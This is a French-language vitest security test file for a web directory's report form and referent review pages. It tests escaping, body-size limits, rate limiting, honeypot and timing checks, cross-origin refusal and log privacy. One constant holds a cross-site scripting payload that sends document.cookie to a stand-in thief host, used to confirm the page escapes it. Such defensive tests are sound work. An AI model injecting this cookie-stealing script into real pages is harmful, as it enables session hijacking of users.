import { connect } from 'node:net'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { demarrerServeur, type ServeurDEssai } from '../support/serveur.ts'

const MOT = 'un mot de passe d’essai'
const SCRIPT = '<script>fetch("//voleur.example/"+document.cookie)</script>'

describe('un annuaire malmené', () => {
  let serveur: ServeurDEssai
  let chemin = ''
  let referent = ''

  const lire = async (adresse: string, headers: Record<string, string> = {}) =>
    (await fetch(`${serveur.adresse}${adresse}`, { headers })).text()
  const envoyer = (adresse: string, champs: Readonly<Record<string, string>>) =>
    fetch(`${serveur.adresse}${adresse}`, {
      method: 'POST',
      headers: { Origin: serveur.adresse, 'Content-Type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams(champs),
      redirect: 'manual'
    })
  const jetonDe = async (adresse: string) =>
    /name="jeton" value="([^"]+)"/.exec(await lire(adresse))?.[1] ?? ''
  const file = () => lire('/pro/lieux?sorte=signalement&ou=07', { cookie: referent })

  beforeAll(async () => {
    serveur = await demarrerServeur({ RELAIS_REFERENT: MOT })
    const resultats = await lire('/lieux?ou=Privas')
    chemin = /href="(\/lieux\/espace-numerique[^"?]+)/.exec(resultats)?.[1] ?? ''
    const entree = await envoyer('/pro/entrer', { mot: MOT, prenom: 'Claire' })
    referent = entree.headers.get('set-cookie')?.split(';')[0] ?? ''
  })
  afterAll(async () => {
    expect(await serveur.arreter()).toBe(0)
  })

  test('un script envoyé à la place de mots n’est jamais qu’un texte, pour la personne et pour le référent', async () => {
    const jeton = await jetonDe(`${chemin}/signaler/autre`)
    await new Promise(suite => setTimeout(suite, 2100))

    const reponse = await envoyer(`${chemin}/signaler/autre`, { jeton, message: SCRIPT })

    expect(reponse.status).toBe(303)
    const page = await file()
    expect(page).toContain('&lt;script&gt;fetch(')
    expect(page).not.toContain('<script>fetch(')
  })

  test('un mégaoctet de texte est refusé avant d’être lu, en clair', async () => {
    const { hostname, port, host } = new URL(serveur.adresse)
    const prise = connect(Number(port), hostname)
    const reponse = new Promise<string>(trouver => prise.once('data', texte => trouver(String(texte))))
    prise.write(
      `POST ${chemin}/signaler/autre HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${serveur.adresse}\r\n` +
        `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1048576\r\n\r\nmessage=`
    )

    expect(await reponse).toMatch(/^HTTP\/1\.1 413 /)
    prise.destroy()
    const cinqKilos = await envoyer(`${chemin}/signaler/autre`, { message: 'a'.repeat(5000) })
    expect(cinqKilos.status).toBe(422)
    expect(await cinqKilos.text()).toContain('500 signes au plus')
  })

  test('cinq cents envois en une minute : quelques-uns passent, les autres lisent quand revenir, le site répond', async () => {
    const jeton = await jetonDe(`${chemin}/signaler/telephone`)
    await new Promise(suite => setTimeout(suite, 2100))
    const statuts: number[] = []
    let refus = ''
    for (let n = 0; n < 500; n += 25) {
      const lot = Array.from({ length: 25 }, (_, k) =>
        envoyer(`${chemin}/signaler/telephone`, { jeton, message: `achetez ${n + k}` })
      )
      for (const reponse of await Promise.all(lot)) {
        statuts.push(reponse.status)
        if (reponse.status === 429) refus = await reponse.text()
        else await reponse.body?.cancel()
      }
    }

    expect(statuts.filter(statut => statut === 303).length).toBeLessThanOrEqual(10)
    expect(new Set(statuts)).toEqual(new Set([303, 429]))
    expect(refus).toMatch(/Trop d’envois en même temps.*Vos mots ne sont pas partis/s)
    expect(refus).toMatch(/name="message" value="achetez \d+"/)
    const debut = performance.now()
    expect(await lire('/lieux?ou=Privas')).toContain('Privas')
    expect(performance.now() - debut).toBeLessThan(2000)
  }, 60_000)

  test('un programme qui remplit tout, ou trop vite, est arrêté par une page qui garde ce qu’il a tapé', async () => {
    const jeton = await jetonDe(`${chemin}/signaler/ferme`)

    const tropVite = await envoyer(`${chemin}/signaler/ferme`, { jeton, message: 'fermé' })
    const toutRempli = await envoyer(`${chemin}/signaler/ferme`, { jeton, message: 'fermé', suite_web: 'x' })

    expect([tropVite.status, toutRempli.status]).toEqual([422, 422])
    expect(await tropVite.text()).toMatch(/Envoyez encore une fois.*>\nfermé<\/textarea>/s)
  })

  test('un autre site ne peut pas décider à la place du référent', async () => {
    const cle = /name="cle" value="(signalement:\d+)"/.exec(await file())?.[1] ?? ''
    const reponse = await fetch(`${serveur.adresse}/pro/lieux/decider`, {
      method: 'POST',
      headers: {
        Origin: 'https://ailleurs.example',
        cookie: referent,
        'Content-Type': 'application/x-www-form-urlencoded'
      },
      body: new URLSearchParams({ cle, issue: 'refuse' })
    })

    expect(cle).not.toBe('')
    expect(reponse.status).toBe(403)
    expect(await file()).toContain(cle)
  })

  test('rien de ce que les gens ont écrit, ni d’où, n’est dans le journal', () => {
    expect(serveur.journal()).not.toMatch(/achetez|voleur|fermé|127\.0\.0\.1 |"ip"|essai'/)
    expect(serveur.journal()).not.toContain(MOT)
  })
})
